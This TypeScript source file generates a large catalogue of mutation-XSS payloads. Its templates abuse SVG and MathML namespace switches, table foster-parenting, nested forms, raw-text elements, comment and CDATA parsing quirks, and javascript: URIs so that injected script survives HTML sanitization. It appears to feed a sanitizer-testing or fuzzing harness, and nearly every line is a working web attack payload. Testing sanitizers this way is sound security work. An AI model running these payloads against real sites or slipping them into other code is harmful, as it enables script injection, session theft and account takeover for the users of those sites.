import { type Bait, family, type Trick } from './trick';

/*
 * Markup that means one thing when it is parsed and another when what came out is parsed again: text in one namespace is an
 * element in the other, a table throws out what does not belong in it, a form in a form is dropped and what it held moves.
 */

/** Elements whose content is text in HTML, and elements in SVG or MathML. */
const RAW = ['style', 'title', 'textarea', 'xmp', 'noscript', 'noembed', 'noframes', 'iframe', 'plaintext', 'script'];

/** Where HTML turns into another language, and where it turns back. */
const FOREIGN: readonly (readonly [enter: string, back: string])[] = [
	['<svg>', '<foreignObject>'],
	['<svg>', '<desc>'],
	['<svg>', '<title>'],
	['<math>', '<mtext>'],
	['<math>', '<mi>'],
	['<math>', '<annotation-xml encoding="text/html">'],
	['<math><mtext><svg>', '<foreignObject>'],
	['<svg><foreignObject><math>', '<mtext>'],
];

const NESTINGS: readonly ((code: string) => string)[] = [
	code => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
	code => `<math><mtext><table><malignmark><style><math><img src onerror=${code}>`,
	code => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
	code => `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
	code => `<svg><p><style><g title="</style><img src onerror=${code}>">`,
	code => `<math></br><style><p title="</style><img src onerror=${code}>">`,
	code => `<table><tr><td></tr><img src=x onerror=${code}></table>`,
	code => `<table><svg><style></table><img src=x onerror=${code}></style></svg>`,
	code => `<table><caption><math><mtext><tr><td><img src=x onerror=${code}>`,
	code => `<select><template><style></select><img src=x onerror=${code}>`,
	code => `<select><option><style></option></select><img src=x onerror=${code}></style>`,
	code => `<select><keygen><iframe><img src=x onerror=${code}>`,
	code => `<template><div><template><script>${code}</script></template></div></template>`,
	code => `<template shadowrootmode=open><script>${code}</script><slot></slot></template>`,
	code => `<div><template shadowroot=open><img src=x onerror=${code}></template></div>`,
	code => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
	code => `<noscript><style></noscript><img src=x onerror=${code}></style>`,
	code => `<xmp><p title="</xmp><svg/onload=${code}>">`,
	code => `<textarea><p title="</textarea><img src=x onerror=${code}>">`,
	code => `<title><p title="</title><img src=x onerror=${code}>">`,
	code => `<iframe><p title="</iframe><img src=x onerror=${code}>">`,
	code => `<plaintext><img src=x onerror=${code}>`,
	code => `<p><plaintext></p><script>${code}</script>`,
	code => `<listing>&lt;img src=x onerror=${code}&gt;</listing>`,
	code => `<pre>\n\n<svg><style>&lt;/style&gt;&lt;img src=x onerror=${code}&gt;</style></svg></pre>`,
	code => `<!--><img src=x onerror=${code}>-->`,
	code => `<!--\u003e<img src=x onerror=${code}>--!>`,
	code => `<!---><img src=x onerror=${code}>-->`,
	code => `<!-- --!><img src=x onerror=${code}> -->`,
	code => `<!-- <!-- --> <img src=x onerror=${code}> -->`,
	code => `<!--[if gte IE 4]><script>${code}</script><![endif]-->`,
	code => `<![CDATA[<img src=x onerror=${code}>]]>`,
	code => `<svg><![CDATA[</svg><img src=x onerror=${code}>]]></svg>`,
	code => `<svg><style><![CDATA[</style><img src=x onerror=${code}>]]></style></svg>`,
	code => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "<script>${code}</script>">]><x>&e;</x>`,
	code => `<?xml-stylesheet type="text/xsl" href="data:text/xml,<script>${code}</script>"?>`,
	code => `<!doctype html><html><head></head><body onload=${code}>`,
	code => `<? echo "<img src=x onerror=${code}>" ?>`,
	code => `<% response.write("<img src=x onerror=${code}>") %>`,
	code => `</ <img src=x onerror=${code}>`,
	code => `</p/x title="><img src=x onerror=${code}>`,
	code => `<a><a><a><a><a><table><a><img src=x onerror=${code}>`,
	code => `<b><i></b><img src=x onerror=${code}></i>`,
	code => `<p><b><p><b><p><svg><p><style><b title="</style><img src=x onerror=${code}>">`,
	code => `<nobr><nobr><math><nobr><style></nobr><img src=x onerror=${code}>`,
	code => `<h1><h2></h1><math><h1><mglyph><style></h1><img src=x onerror=${code}>`,
	code => `<dl><dt><dd></dt><svg><dd><style></dd><img src=x onerror=${code}>`,
	code => `<ruby><rt><math><rt><style></rt><img src=x onerror=${code}>`,
	code => `<svg><a xlink:href="javascript:${code}"><text x=20 y=20>x</text></a></svg>`,
	code => `<svg><a><animate attributeName=href values="javascript:${code}" /><text y=20>x</text></a></svg>`,
	code => `<svg><set attributeName=onmouseover to="${code}"></set></svg>`,
	code => `<svg><animate onbegin="${code}" attributeName=x dur=1s></animate></svg>`,
	code =>
		`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${code}'/></svg>#x" /></svg>`,
	code => `<svg><script href="data:,${code}" /></svg>`,
	code => `<svg><script xlink:href="data:,${code}"></script></svg>`,
	code => `<svg><script>&#${'a'.codePointAt(0) ?? 0};=1,${code}</script></svg>`,
	code => `<svg><handler type=text/javascript ev:event=load>${code}</handler></svg>`,
	code => `<svg><foreignObject><body onload=${code}></foreignObject></svg>`,
	code => `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${code}</x:script></svg>`,
	code => `<html:script xmlns:html="http://www.w3.org/1999/xhtml">${code}</html:script>`,
	code => `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${code}">x</maction></math>`,
	code => `<math href="javascript:${code}">x</math>`,
	code =>
		`<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${code}</script></annotation-xml></semantics></math>`,
	code => `<math><style><img src=x onerror=${code}></style></math>`,
];

/** Markup whose meaning changes when it is parsed twice. */
export function mutationTricks({ run }: Bait): Trick[] {
	return [
		...family(
			'nesting',
			NESTINGS.map(nest => id => nest(run(id))),
		),
		...family(
			'raw',
			RAW.flatMap(raw => [
				(id: string) => `<svg><${raw}><p id="</${raw}><img src=x onerror=${run(id)}>"></svg>`,
				(id: string) => `<math><mtext><${raw}><!--</${raw}><img title="--><img src=x onerror=${run(id)}>"></math>`,
			]),
		),
		...family(
			'foreign',
			FOREIGN.flatMap(([enter, back]) => [
				(id: string) => `${enter}${back}<script>${run(id)}</script>`,
				(id: string) => `${enter}<style>${back}</style><img src=x onerror=${run(id)}>`,
				(id: string) => `${enter}${back}<table>${enter}<style><img src=x onerror=${run(id)}>`,
			]),
		),
	];
}
